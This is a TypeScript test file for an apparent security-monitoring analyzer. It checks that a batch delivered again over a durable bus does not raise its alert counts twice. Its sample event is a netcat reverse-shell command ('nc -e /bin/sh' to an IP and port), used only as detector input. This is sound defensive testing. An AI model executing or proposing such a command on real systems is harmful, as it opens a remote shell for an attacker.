/** The analyzer over a durable bus: a batch delivered again after it was analyzed is not analyzed twice. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { MemoryBus } from '../src/bus/memory.ts';
import { LiveHub } from '../src/live.ts';
import { Metrics } from '../src/metrics.ts';
import { AlertPipeline } from '../src/pipeline/alerts.ts';
import { Analyzer } from '../src/pipeline/analyzer.ts';
import { EventIngest } from '../src/pipeline/ingest.ts';
import { RuleSet } from '../src/pipeline/rules.ts';
import type { VulnerabilityMatcher } from '../src/pipeline/vulnerabilities.ts';
import { SettingsCache } from '../src/settings.ts';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.ts';
import type { EventBatch } from '../src/store/store.ts';
import { execEvent } from '../test-support/agent-client.ts';

test('durable bus: a redelivered batch (crash after its analyzed mark, before the ack) adds no alert counts', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-analyzer-'));
  const store = new SqliteStore(join(dir, 's.sqlite'));
  // The in-process bus standing in for JetStream: the analyzer then stores batches itself.
  const bus = Object.defineProperty(new MemoryBus(), 'durable', { value: true });
  const metrics = new Metrics();
  const settings = new SettingsCache(store);
  await settings.load();
  const alerts = new AlertPipeline(store, settings, new LiveHub(), metrics, { publish() {} });
  const analyzer = new Analyzer(store, bus, RuleSet.load([], new Map()), alerts, {} as VulnerabilityMatcher, new EventIngest(store, bus, metrics), metrics, () => {});
  const batch: EventBatch = { id: 'b1', agent_id: 'a1', host_id: 'h1', received_at: new Date().toISOString(), events: [execEvent('h1', { name: 'nc', executable: '/tmp/nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] })] };
  const counts = async () => (await store.listAlerts({ limit: 100 })).items.map((a) => [a.rule_id, a.count]).sort();
  try {
    await analyzer.start();
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batch });
    await bus.drained();
    const first = await counts();
    assert.ok(first.length > 0, 'the batch raises alerts');
    assert.equal(await store.isBatchAnalyzed('b1'), true);
    await bus.publish({ topic: 'events', key: 'h1', id: 'b1', payload: batch });
    await bus.drained();
    assert.deepEqual(await counts(), first);
  } finally {
    await analyzer.stop();
    await bus.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
